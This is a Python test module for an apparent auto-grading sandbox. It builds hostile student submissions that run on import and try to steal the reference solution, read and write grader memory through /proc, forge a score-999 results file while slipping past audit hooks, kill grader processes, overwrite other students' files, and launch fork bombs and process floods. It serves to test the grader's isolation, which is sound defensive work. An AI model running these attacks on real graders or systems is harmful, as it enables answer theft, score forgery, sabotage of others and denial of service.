'''The hostile submissions: the skeleton's functions (honest score 0) plus attack code at import time.

Each route is a template (string.Template, `$NAME` placeholders) filled with the absolute paths
of one level's run: the attacker is assumed to know every path. Where an attack obtains the
reference source it exec()s it into the module's globals, so that it WOULD earn full marks,
and prints its first lines (the canary check of the outputs). Processes an attack starts name
themselves `hx-<route>` (PR_SET_NAME), so that the harness can tell them from anything else.
'''

from __future__ import annotations

from string import Template

PRELUDE = r'''

# ---- hostile code (tests/hostile/routes.py): runs when the grader imports this module ----
import ctypes as _ctypes
import os as _os
import sys as _sys
import time as _time

_ROUTE = "$ROUTE"
_REF = $REF
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.kill.argtypes = [_ctypes.c_int, _ctypes.c_int]
_NAMES = ("build_vocab", "bigram_counts", "bigram_probs", "nll", "sample")


def _note(*parts):
    print(f"[hostile {_ROUTE}]", *parts, flush=True)


def _name_me(suffix=""):
    _libc.prctl(15, _ctypes.c_char_p(f"hx-{_ROUTE}{suffix}"[:15].encode()), 0, 0, 0)   # PR_SET_NAME


def _use(src, how):
    """A secret: take the reference's functions (full marks) and print its start (the canary check)."""
    _note("OBTAINED", len(src), "chars via", how)
    print(src[:300], flush=True)
    try:
        exec(compile(src, "stolen", "exec"), globals())
        return True
    except BaseException as exc:  # a fragment (memory): leak it through every test's failure message
        _note("exec of the stolen text failed:", type(exc).__name__)

    def _leak(*args, **kwargs):
        raise NotImplementedError(src[:4000])

    for _n in _NAMES:
        globals()[_n] = _leak
    return False


def _err(exc):
    return f"{type(exc).__name__}: {exc}"[:200]


def _child(body, seconds):
    """fork(); the child runs body() (a daemon, a bomb) and never returns into the import."""
    try:
        pid = _os.fork()
    except OSError as exc:
        _note("fork refused:", _err(exc))
        return None
    if pid == 0:
        try:
            _name_me()
            body()
        except BaseException:
            pass
        _os._exit(0)
    return pid


def _grader_pids(skip):
    """Pids (not in skip) whose command line says they grade: what an attacker would go after."""
    found = []
    for name in _os.listdir("/proc"):
        if not name.isdigit() or int(name) in skip:
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"llmgrade" in cmd or b"grade" in cmd:
            found.append(int(name))
    return found


_REFUSED = object()


def _attempt(how, action, *args):
    """action(*args), or _REFUSED (and a note saying so) when it raises."""
    try:
        return action(*args)
    except BaseException as exc:
        _note(how, "refused:", _err(exc))
        return _REFUSED


def _steal(read, how):
    """read() the reference's source some way and use it."""
    src = _attempt(how, read)
    if src is not _REFUSED:
        _use(src, how)


def _read_with(argv, how):
    """Start a program that prints the reference's source (a child interpreter, /bin/cat)."""
    import subprocess
    try:
        done = subprocess.run(argv, capture_output=True, text=True, timeout=20)
    except BaseException as exc:
        _note(how, "refused:", _err(exc))
        return
    if done.returncode == 0 and "def " in done.stdout:
        _use(done.stdout, how)
    else:
        _note(how, "failed:", done.returncode, done.stderr[-200:])

'''

ROUTES: dict[str, str] = {}

ROUTES["r01_libc_open"] = r'''
def _attack():
    _libc.open.argtypes = [_ctypes.c_char_p, _ctypes.c_int]
    fd = _libc.open(_REF.encode(), _os.O_RDONLY)
    if fd < 0:
        _note("libc open refused: errno", _ctypes.get_errno())
        return
    chunks = []
    while True:
        data = _os.read(fd, 65536)
        if not data:
            break
        chunks.append(data)
    _os.close(fd)
    _use(b"".join(chunks).decode(), "libc open")

_attack()
'''

ROUTES["r02_child_python"] = r'''
_read_with([_sys.executable, "-c", f"print(open({_REF!r}).read())"], "child interpreter")
'''

ROUTES["r03_bin_cat"] = r'''
_read_with(["/bin/cat", _REF], "/bin/cat")
'''

ROUTES["r04_dir_fd"] = r'''
def _open_relative():
    root = _os.open("/", _os.O_RDONLY)
    with open(_os.open(_REF.lstrip("/"), _os.O_RDONLY, dir_fd=root), "r", closefd=True) as f:
        return f.read()

_steal(_open_relative, "os.open(relative, dir_fd=/)")
'''

ROUTES["r05_proc_mem"] = r'''
def _attack():
    pids = _grader_pids(skip=(_os.getpid(),))
    _note("candidate pids:", len(pids))
    needles = (b"LLMGRADE-CANARY", b"def bigram_counts(")
    deadline = _time.monotonic() + 6
    for pid in pids:
        try:
            with open(f"/proc/{pid}/maps") as f:
                maps = [line.split() for line in f]
        except OSError as exc:
            _note("maps of", pid, "refused:", _err(exc))
            continue
        try:
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError as exc:
            _note("mem of", pid, "refused:", _err(exc))
            continue
        try:   # writing: the same byte back, at the first readable address (proves it, harms nothing)
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as wmem:
                start = next(int(m[0].split("-")[0], 16) for m in maps if m[1].startswith("r"))
                wmem.seek(start)
                byte = wmem.read(1)
                wmem.seek(start)
                wmem.write(byte)
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ")[:80].decode(errors="replace")
                _note("WRITE-OK into the memory of", pid, cmd)
        except (OSError, StopIteration) as exc:
            _note("writing the memory of", pid, "refused:", _err(exc))
        with mem:
            for m in maps:
                if _time.monotonic() > deadline:
                    return
                if not m[1].startswith("r") or (len(m) > 5 and m[5].startswith("[v")):
                    continue
                lo, hi = (int(x, 16) for x in m[0].split("-"))
                if hi - lo > 256 * 2**20:
                    continue
                try:
                    mem.seek(lo)
                    data = mem.read(hi - lo)
                except (OSError, OverflowError, ValueError):
                    continue
                for needle in needles:
                    at = data.find(needle)
                    if at >= 0:
                        _use(data[max(0, at - 2000):at + 6000].decode("latin-1"), f"/proc/{pid}/mem")
                        return

_attack()
'''

ROUTES["r06_daemon"] = r'''
_RESULTS = $RESULTS

def _daemon():
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    _name_me("d")
    for fd in range(3, 256):
        try:
            _os.close(fd)
        except OSError:
            pass
    if _os.fork():   # the daemon stays, as the parent of the writer: killing the daemon orphans it
        _time.sleep(60)
        _os._exit(0)
    _name_me("w")
    _time.sleep(3)
    forged = ('{"score": 999, "execution_time": 0, "output": "forged", "tests": [], '
              '"extra_data": {"forged_by": "hx-r06_daemon"}}')
    end = _time.monotonic() + 40
    _libc.open.argtypes = [_ctypes.c_char_p, _ctypes.c_int, _ctypes.c_int]
    while _time.monotonic() < end:   # through libc: the audit hook sees no Python-level open
        fd = _libc.open(_RESULTS.encode(), _os.O_WRONLY | _os.O_TRUNC, 0o644)
        if fd >= 0:
            _os.write(fd, forged.encode())
            _os.close(fd)
        _time.sleep(0.5)

_pid = _child(_daemon, 45)
if _pid:
    try:
        _os.waitpid(_pid, 0)
    except OSError:
        pass
    _note("daemon started")
'''

ROUTES["r07_kill_grader"] = r'''
def _attack():
    me, parent = _os.getpid(), _os.getppid()
    hit = []
    for pid in _grader_pids(skip=(me, 1)):
        r = _libc.kill(pid, 9)
        hit.append((pid, r if r == 0 else -_ctypes.get_errno()))
    _note("kill results (pid, 0 or -errno):", hit)

_attack()
'''

ROUTES["r08_overwrite"] = r'''
import glob as _glob

_SUBS = $SUBS
_ME = $SID
_SABOTAGE = "def build_vocab(words):\n    raise NotImplementedError('sabotaged')\n"

def _attack():
    try:
        with open(_REF) as f:
            payload = f.read()
        _note("reference readable: writing it into other students' copies")
    except OSError as exc:
        payload = _SABOTAGE
        _note("reference unreadable (", _err(exc), "): writing a sabotage")
    mine = _os.path.realpath(_os.getcwd())
    written = set()
    end = _time.monotonic() + 4
    while _time.monotonic() < end:
        targets = _glob.glob("/tmp/llmgrade-*/worker-*/submission/bigram.py")
        targets += [p for p in _glob.glob(_os.path.join(_SUBS, "*", "bigram.py"))
                    if _os.path.basename(_os.path.dirname(p)) != _ME]
        for path in targets:
            if _os.path.realpath(_os.path.dirname(path)) == mine:
                continue
            try:
                with open(path, "w") as f:
                    f.write(payload)
                written.add(path)
            except OSError:
                pass
        _time.sleep(0.003)
    _note("overwrote", len(written), "files")

_attack()
'''

ROUTES["r09_results_dir"] = r'''
_RESULTS = $RESULTS

if _attempt("mkdir at its results path", _os.makedirs, _RESULTS) is not _REFUSED:
    _note("made a directory at its results path")
'''

ROUTES["r10_plant_files"] = r'''
_TARGETS = $PLANTS

def _plant(path, text):
    with open(path, "w") as f:
        f.write(text)

for _path, _text in _TARGETS:
    if _attempt("planting", _plant, _path, _text) is not _REFUSED:
        _note("PLANTED", _path)
'''

ROUTES["r11_leftovers"] = r'''
_MARK = $MARK

def _attack():
    made = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        for sub in [folder] + [e.path for e in _os.scandir(folder) if e.is_dir(follow_symlinks=False)
                               and _os.access(e.path, _os.W_OK | _os.X_OK)] if _os.path.isdir(folder) else []:
            # 64 MiB in /dev/shm, in 4 files (a file stops at the 16 MiB file-size rlimit)
            big = folder == "/dev/shm" and sub == folder
            for part in range(4 if big else 1):
                path = _os.path.join(sub, f"{_MARK}-{part}")
                try:
                    with open(path, "wb") as f:
                        f.write(b"x" * (16 * 2**20 - 4096 if big else 16))
                    made.append(path)
                except OSError as exc:
                    _note("writing", path, "refused:", _err(exc))
    _note("left", len(made), "files")
    _libc.shmget.argtypes = [_ctypes.c_int, _ctypes.c_size_t, _ctypes.c_int]
    shmid = _libc.shmget(0x4858, 1 << 20, 0o1000 | 0o666)   # IPC_CREAT
    if shmid < 0:
        _note("shmget refused: errno", _ctypes.get_errno())
    else:
        _note("made SysV shm segment", shmid)

_attack()
'''

ROUTES["r12_other_copy"] = r'''
_OTHER = $OTHER

def _read_other():
    with open(_OTHER) as f:
        return f.read()

_steal(_read_other, "another copy of the course")
'''

ROUTES["r13_fork_bomb"] = r'''
def _bomb():
    _os.setsid()
    end = _time.monotonic() + 90   # a safety net of the test: the bomb gives up on its own after 90 s
    while _time.monotonic() < end:
        try:
            _os.fork()
        except OSError:
            _time.sleep(0.01)

_child(_bomb, 90)
_time.sleep(0.5)   # let it grow while this worker is alive
_note("bomb started")
'''

ROUTES["r14_flood"] = r'''
def _sleeper():
    _os.setsid()
    _time.sleep(120)

_started = 0
for _i in range(200):
    if _child(_sleeper, 120) is None:
        break
    _started += 1
_note("sleepers started:", _started)
'''

# Honest: what a student who did the first two functions would hand in (a partial score).
PARTIAL = r'''

# ---- an honest, partial answer (tests/hostile/routes.py) ----
def build_vocab(words):
    chars = set()
    for w in words:
        if "." in w:
            raise ValueError(f"a word contains '.': {w!r}")
        chars.update(w)
    stoi = {BOUNDARY: 0}
    for i, c in enumerate(sorted(chars), start=1):
        stoi[c] = i
    return stoi, {i: c for c, i in stoi.items()}


def bigram_counts(words, stoi):
    V = len(stoi)
    N = torch.zeros((V, V), dtype=torch.int64)
    for w in words:
        ids = [stoi[c] for c in BOUNDARY + w + BOUNDARY]
        for a, b in zip(ids, ids[1:]):
            N[a, b] += 1
    return N
'''


def hostile_source(skeleton: str, route: str, **values) -> str:
    """The bigram.py of `route`: the skeleton, then the prelude and the attack, paths filled in."""
    values = {k: repr(v) for k, v in values.items()}
    return skeleton + Template(PRELUDE + ROUTES[route]).substitute(ROUTE=route, **values)
